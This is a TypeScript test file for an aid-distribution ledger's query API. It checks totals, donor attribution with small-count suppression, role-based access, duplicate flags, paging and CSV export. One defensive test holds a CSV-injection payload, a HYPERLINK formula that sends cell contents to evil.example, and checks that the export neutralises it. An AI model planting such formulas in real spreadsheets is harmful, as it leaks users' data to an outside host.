import type { LedgerEvent } from "@relief-ledger/domain";
import { cboTotals } from "@relief-ledger/projections";
import { byFund, byScheme, cbo, distribution, donor, FORMULA_DISTRICT, uid } from "@relief-ledger/projections/testing";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { SANGAMA_KIT_FUND, startQueryHarness, type QueryHarness } from "../testing/index.testkit.js";

// Sangama (Karnataka) gets ₹10,000 for grocery kits from the trust. In May it hands 3 kits of
// ₹1,500 to persons 1, 2 and 3, and person 1 gets a second kit 10 days later: a duplicate under
// the 30-day rule. One ART refill goes through a scheme. VAMP (Maharashtra) gives person 1 a kit.
const LEDGER = [
  cbo("sangama-blr", "IN-KA"),
  cbo("vamp-sangli", "IN-MH", FORMULA_DISTRICT),
  donor("azim-trust"),
  SANGAMA_KIT_FUND,
  distribution({
    id: 1,
    cboId: "sangama-blr",
    on: "2021-05-01",
    people: [1],
    valuePaise: 150_000,
    funding: byFund(1),
    submission: 100,
  }),
  distribution({ id: 2, cboId: "sangama-blr", on: "2021-05-02", people: [2], valuePaise: 150_000, submission: 100 }),
  distribution({ id: 3, cboId: "sangama-blr", on: "2021-05-03", people: [3], valuePaise: 150_000, submission: 100 }),
  distribution({ id: 4, cboId: "sangama-blr", on: "2021-05-11", people: [1], valuePaise: 150_000, submission: 100 }),
  distribution({
    id: 5,
    cboId: "sangama-blr",
    on: "2021-05-12",
    people: [2],
    service: "art_medicine",
    valuePaise: 80_000,
    funding: byScheme("NACO"),
    submission: 100,
  }),
  distribution({ id: 6, cboId: "vamp-sangli", on: "2021-06-20", people: [1], valuePaise: 120_000, submission: 101 }),
];

let h: QueryHarness;
beforeAll(async () => {
  h = await startQueryHarness();
});
afterAll(() => h.close());

// The cbo key is Sangama's, otherCbo VAMP's.
const get = (who: keyof QueryHarness["keys"], url: string) => h.read(who, url);
const project = (events: LedgerEvent[]) => h.project(events);

describe("the query service", () => {
  it("answers 503 until the projector has built the read models", async () => {
    expect((await get("auditor", "/v1/totals")).status).toBe(503);
    await project(LEDGER);
    expect((await get("auditor", "/v1/totals")).status).toBe(200);
  });

  it("gives a CBO its own totals by service and month, with the worked numbers", async () => {
    const { status, body } = await get("cbo", "/v1/cbos/sangama-blr/totals");
    expect(status).toBe(200);
    expect(body.cells).toEqual([
      {
        service: "art_medicine",
        month: "2021-05",
        distributions: 1,
        valuePaise: 80_000,
        persons: 1,
        attributedPaise: 0,
        unfundedPaise: 0,
        schemePaise: 80_000,
      },
      // ₹6,000 of kits: the fund pays all four (₹10,000 covers them), nothing unfunded.
      {
        service: "grocery_kit",
        month: "2021-05",
        distributions: 4,
        valuePaise: 600_000,
        persons: 3,
        attributedPaise: 600_000,
        unfundedPaise: 0,
        schemePaise: 0,
      },
    ]);
  });

  it("refuses another CBO's totals, and roles that may not read them", async () => {
    expect((await get("otherCbo", "/v1/cbos/sangama-blr/totals")).status).toBe(403);
    expect((await get("donor", "/v1/cbos/sangama-blr/totals")).status).toBe(403);
    expect((await get("admin", "/v1/cbos/sangama-blr/totals")).status).toBe(403);
    expect((await get("auditor", "/v1/cbos/nowhere-cbo/totals")).status).toBe(404);
  });

  it("shows a donor where its money went, hiding every count of a cell of 1 to 4 persons", async () => {
    const { status, body } = await get("donor", "/v1/donors/azim-trust/attribution");
    expect(status).toBe(200);
    const [theFund] = body.funds;
    // Three persons: the cell's counts and money are hidden, and so are the fund's counts, which
    // would give the cell away; the fund's money is shown and reconciles.
    expect(theFund).toMatchObject({
      fundId: uid(1),
      receivedPaise: 1_000_000,
      attributedPaise: 600_000,
      remainingPaise: 400_000,
      distributions: null,
      persons: null,
      suppressed: true,
      suppressedPaise: 600_000,
    });
    expect(theFund.cells).toEqual([
      {
        cboId: "sangama-blr",
        service: "grocery_kit",
        month: "2021-05",
        paise: null,
        distributions: null,
        persons: null,
        suppressed: true,
        suppressedReason: "small",
      },
    ]);
    expect(theFund.suppressedReason).toBe("small");
    expect(body.overall).toMatchObject({
      persons: null,
      suppressed: true,
      suppressedReason: "small",
      attributedPaise: 600_000,
    });
    // The CSV says why beside each hidden row, as the JSON does.
    const csv = await get("donor", "/v1/donors/azim-trust/attribution?format=csv");
    expect(csv.body as string).toMatch(/suppressedReason[\s\S]*#meta\+suppressed\+reason[\s\S]*,yes,small/);
    const audited = await get("auditor", "/v1/donors/azim-trust/attribution");
    expect(audited.body.funds[0]).toMatchObject({ distributions: 4, persons: 3, suppressed: false });
    expect((await get("otherDonor", "/v1/donors/azim-trust/attribution")).status).toBe(403);
  });

  it("counts a person served by two CBOs once in coalition totals, suppressed for donors", async () => {
    const audited = await get("auditor", "/v1/totals");
    expect(audited.body.overall).toMatchObject({ distributions: 6, persons: 3, cbos: 2, suppressed: false });
    const donorView = await get("donor", "/v1/totals");
    expect(donorView.body.overall).toMatchObject({
      distributions: null,
      persons: null,
      suppressed: true,
      valuePaise: 800_000,
    });
    expect(donorView.body.cells.every((cell: { suppressed: boolean }) => cell.suppressed)).toBe(true);
  });

  it("documents the donor answers, suppressed marker included, in the OpenAPI description", async () => {
    const spec = (await h.app.inject("/docs/json")).json();
    const answer = (path: string) => spec.paths[path].get.responses["200"].content["application/json"].schema;
    const attribution = answer("/v1/donors/{donorId}/attribution");
    expect(attribution.properties.funds.items.properties.cells.items.properties.suppressed.type).toBe("boolean");
    // Why a figure is withheld, documented where a client reads the shape.
    for (const row of [
      attribution.properties.funds.items.properties.cells.items,
      attribution.properties.funds.items,
      attribution.properties.overall,
      answer("/v1/totals").properties.cells.items,
      answer("/v1/totals").properties.overall,
    ]) {
      expect(row.properties.suppressedReason).toMatchObject({ enum: ["small", "protective"], nullable: true });
      expect(row.properties.suppressedReason.description).toContain("fewer than 5");
    }
    expect(attribution.properties.funds.items.properties).toHaveProperty("suppressedPaise");
    expect(answer("/v1/totals").properties.cells.items.properties.persons).toMatchObject({
      type: "integer",
      nullable: true,
    });
  });

  it("documents a real answer and the refusals of every read route, so a generated client is typed", async () => {
    const spec = (await h.app.inject("/docs/json")).json();
    for (const [path, methods] of Object.entries<Record<string, { responses: object }>>(spec.paths)) {
      for (const [method, { responses }] of Object.entries(methods)) {
        const codes = Object.keys(responses);
        const success = codes.find((code) => code.startsWith("2"));
        expect(success, `${method} ${path} documents its answer`).toBeDefined();
        expect(codes, `${method} ${path} documents refusals`).toEqual(expect.arrayContaining(["400", "429"]));
      }
    }
    const answers = (path: string) => spec.paths[path].get.responses;
    expect(Object.keys(answers("/v1/flags/{flagId}/earlier"))).toEqual(
      expect.arrayContaining(["200", "401", "403", "404"]),
    );
    const flag = answers("/v1/flags")["200"].content["application/json"].schema.properties.flags.items;
    expect(flag.properties.status.enum).toEqual(["open", "resolved"]);
    expect(answers("/v1/cbos/{cboId}/totals")["404"].content["application/json"].schema.required).toEqual([
      "error",
      "message",
    ]);
  });

  it("shows auditors every suspected duplicate with its evidence, filtered", async () => {
    const { body } = await get("auditor", "/v1/flags");
    expect(body).toEqual({
      flags: [
        expect.objectContaining({
          flagId: uid(4),
          service: "grocery_kit",
          cboId: "sangama-blr",
          windowOpensOn: "2021-04-12",
          earlierCount: 1,
          status: "open",
        }),
      ],
      nextCursor: null,
    });
    expect((await get("auditor", `/v1/flags/${uid(4)}/earlier`)).body).toEqual({
      flagId: uid(4),
      windowOpensOn: "2021-04-12",
      distributedOn: "2021-05-11",
      earlierCount: 1,
      earlier: [expect.objectContaining({ distributionId: uid(1), distributedOn: "2021-05-01", cboId: "sangama-blr" })],
      nextCursor: null,
    });
    expect((await get("auditor", "/v1/flags?state=IN-MH")).body.flags).toEqual([]);
    expect((await get("auditor", "/v1/flags?state=IN-KA&status=open")).body.flags).toHaveLength(1);
    expect((await get("auditor", "/v1/flags?status=resolved")).body.flags).toEqual([]);
  });

  it("filters flags by month and CBOs involved, orders them, counts outcomes and reads one, checking each field", async () => {
    expect((await get("auditor", "/v1/flags?month=2021-05")).body.flags).toHaveLength(1);
    expect((await get("auditor", "/v1/flags?month=2021-04")).body.flags).toEqual([]);
    expect((await get("auditor", "/v1/flags?minCbos=2")).body.flags).toEqual([]);
    expect((await get("auditor", "/v1/flags?order=newest&minCbos=1")).body.flags).toHaveLength(1);
    expect((await get("auditor", "/v1/flags/outcomes?service=grocery_kit")).body).toEqual({
      months: [{ month: "2021-05", open: 1, confirmed: 0, dismissed: 0 }],
    });
    expect((await get("auditor", `/v1/flags/${uid(4)}`)).body).toMatchObject({
      flagId: uid(4),
      windowDays: expect.any(Number),
      maxPerWindow: expect.any(Number),
      status: "open",
      resolution: null,
    });
    expect((await get("auditor", `/v1/flags/${uid(9)}`)).status).toBe(404);
    for (const [bad, field] of [
      ["month=2021-13", "month"],
      ["month=May", "month"],
      ["minCbos=0", "minCbos"],
      ["minCbos=two", "minCbos"],
      ["order=sideways", "order"],
    ] as const) {
      const refused = await get("auditor", `/v1/flags?${bad}`);
      expect(refused.status, bad).toBe(400);
      expect(refused.body.details[0].path, bad).toBe(`querystring.${field}`);
      const value = bad.split("=")[1]!;
      if (value.length > 2) expect(JSON.stringify(refused.body), bad).not.toContain(value);
    }
    expect((await get("auditor", "/v1/flags/outcomes?month=2021-13")).status).toBe(400);
  });

  it("checks the key and role before the query string: 401 and 403 come before any 400", async () => {
    expect((await h.app.inject({ url: "/v1/flags?format=xml&limit=ten" })).statusCode).toBe(401);
    expect((await get("donor", "/v1/flags?format=xml&limit=ten")).status).toBe(403);
  });

  it("pages flags: limit bounded, cursor opaque and checked", async () => {
    expect((await get("auditor", "/v1/flags?limit=1")).body).toMatchObject({ nextCursor: null });
    for (const bad of ["limit=0", "limit=1001", "limit=ten", "cursor=bm90LWEtY3Vyc29y"]) {
      const refused = await get("auditor", `/v1/flags?${bad}`);
      expect(refused.status, bad).toBe(400);
      expect(refused.body.details[0].path, bad).toMatch(/^querystring\.(limit|cursor)$/);
    }
  });

  it("gives a CBO only the flags that involve it", async () => {
    expect((await get("cbo", "/v1/flags")).body.flags).toHaveLength(1);
    expect((await get("otherCbo", "/v1/flags")).body.flags).toEqual([]);
    expect((await get("otherCbo", "/v1/flags?cboId=sangama-blr")).status).toBe(403);
    expect((await get("cbo", `/v1/flags/${uid(4)}/earlier`)).status).toBe(200);
    expect((await get("otherCbo", `/v1/flags/${uid(4)}/earlier`)).status).toBe(404);
    expect((await get("donor", `/v1/flags/${uid(4)}/earlier`)).status).toBe(403);
    expect((await get("donor", "/v1/flags")).status).toBe(403);
    expect((await get("otherCbo", "/v1/flags/outcomes")).body).toEqual({ months: [] });
    expect((await get("otherCbo", "/v1/flags/outcomes?cboId=sangama-blr")).status).toBe(403);
    expect((await get("otherCbo", `/v1/flags/${uid(4)}`)).status).toBe(404);
    expect((await get("donor", "/v1/flags/outcomes")).status).toBe(403);
  });

  it("lists a CBO's own distributions newest first, a page at a time, filtered, with nothing about the person", async () => {
    const first = await get("cbo", "/v1/cbos/sangama-blr/distributions?limit=2");
    expect(first.status).toBe(200);
    expect(first.body.distributions.map((d: { distributionId: string }) => d.distributionId)).toEqual([uid(5), uid(4)]);
    expect(first.body.distributions[0]).toMatchObject({
      service: "art_medicine",
      distributedOn: "2021-05-12",
      valuePaise: 80_000,
      funding: { kind: "scheme", scheme: "NACO" },
      status: "recorded",
    });
    expect(JSON.stringify(first.body)).not.toMatch(/person|pseudonym|beneficiar/i);
    const rest = await get("cbo", `/v1/cbos/sangama-blr/distributions?limit=2&cursor=${first.body.nextCursor}`);
    const last = await get("cbo", `/v1/cbos/sangama-blr/distributions?limit=2&cursor=${rest.body.nextCursor}`);
    expect(
      [...rest.body.distributions, ...last.body.distributions].map((d: { distributionId: string }) => d.distributionId),
    ).toEqual([uid(3), uid(2), uid(1)]);
    expect(last.body.nextCursor).toBeNull();
    const filtered = await get(
      "cbo",
      "/v1/cbos/sangama-blr/distributions?service=grocery_kit&from=2021-05-02&to=2021-05-11",
    );
    expect(filtered.body.distributions.map((d: { distributionId: string }) => d.distributionId)).toEqual([
      uid(4),
      uid(3),
      uid(2),
    ]);
  });

  it("refuses another CBO's distributions, and roles that may not read them", async () => {
    expect((await get("otherCbo", "/v1/cbos/sangama-blr/distributions")).status).toBe(403);
    expect((await get("donor", "/v1/cbos/sangama-blr/distributions")).status).toBe(403);
    expect((await get("otherCbo", "/v1/cbos/vamp-sangli/distributions")).body.distributions).toHaveLength(1);
    expect((await get("cbo", "/v1/cbos/sangama-blr/distributions?cursor=bm90LWEtY3Vyc29y")).status).toBe(400);
  });

  it("downloads every table as CSV with a second header row of HXL hashtags", async () => {
    const totals = await get("cbo", "/v1/cbos/sangama-blr/totals?format=csv");
    const lines = (totals.body as string).trim().split("\n");
    expect(lines[0]).toBe(
      "cboId,state,district,service,serviceCode,month,distributions,valueInr,persons,attributedInr,unfundedInr,schemeInr",
    );
    expect(lines[1]).toBe(
      "#org+id,#adm1+code,#adm2+name,#sector,#sector+code,#date+month,#output+distributions,#value+inr,#reached+ind," +
        "#value+inr+attributed,#value+inr+unfunded,#value+inr+scheme",
    );
    // Rupees with two decimals (₹6,000 of kits), the service by name with its code beside it.
    expect(lines[3]).toBe(
      "sangama-blr,IN-KA,Bengaluru Urban,Grocery kit,grocery_kit,2021-05,4,6000.00,3,6000.00,0.00,0.00",
    );
    const attribution = await get("donor", "/v1/donors/azim-trust/attribution?format=csv");
    expect((attribution.body as string).trim().split("\n")[2]).toBe(
      `${uid(1)},sangama-blr,Grocery kit,grocery_kit,2021-05,,,,yes,small`,
    );
    const audited = await get("auditor", "/v1/donors/azim-trust/attribution?format=csv");
    expect((audited.body as string).trim().split("\n")[2]).toBe(
      `${uid(1)},sangama-blr,Grocery kit,grocery_kit,2021-05,6000.00,4,3,no,`,
    );
    expect((await get("auditor", "/v1/flags?format=csv")).body).toContain("#meta+flag+id");
  });

  it("shows a district planted as a spreadsheet formula as text in the CSV, never as a formula", async () => {
    const csv = (await get("auditor", "/v1/cbos/vamp-sangli/totals?format=csv")).body as string;
    const row = csv.trim().split("\n")[2]!;
    expect(row).toBe(
      `vamp-sangli,IN-MH,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")",Grocery kit,grocery_kit,` +
        "2021-06,1,1200.00,1,0.00,1200.00,0.00",
    );
    expect(csv).not.toMatch(/(^|,)"?[=+\-@\t\r]/m);
  });

  it("sends a CBO's totals as the same bytes as serialising them afresh", async () => {
    const response = await h.app.inject({
      url: "/v1/cbos/sangama-blr/totals",
      headers: { authorization: `Bearer ${h.keys.cbo.token}` },
    });
    expect(response.headers["content-type"]).toBe("application/json; charset=utf-8");
    expect(response.body).toBe(JSON.stringify(cboTotals(h.readModel.db(), "sangama-blr")));
  });

  it("answers from the projector's latest batch as soon as it commits, not from an earlier answer", async () => {
    const totals = async () => (await get("cbo", "/v1/cbos/sangama-blr/totals")).body;
    const before = await totals();
    expect(await totals()).toEqual(before);
    const coalitionBefore = (await get("auditor", "/v1/totals")).body;
    const attributionBefore = (await get("auditor", "/v1/donors/azim-trust/attribution")).body;
    // Person 4 gets a kit in June, paid for out of what is left of the trust's fund.
    await project([
      distribution({
        id: 7,
        cboId: "sangama-blr",
        on: "2021-06-01",
        people: [4],
        valuePaise: 150_000,
        funding: byFund(1),
        submission: 102,
      }),
    ]);
    const after = await totals();
    expect(after.overall.distributions).toBe(before.overall.distributions + 1);
    expect(after.cells).toEqual([
      ...before.cells,
      expect.objectContaining({ service: "grocery_kit", month: "2021-06", distributions: 1, persons: 1 }),
    ]);
    const coalition = (await get("auditor", "/v1/totals")).body;
    expect(coalition.overall.distributions).toBe(coalitionBefore.overall.distributions + 1);
    const attribution = (await get("auditor", "/v1/donors/azim-trust/attribution")).body;
    expect(attribution.overall.attributedPaise).toBe(attributionBefore.overall.attributedPaise + 150_000);
  });
});
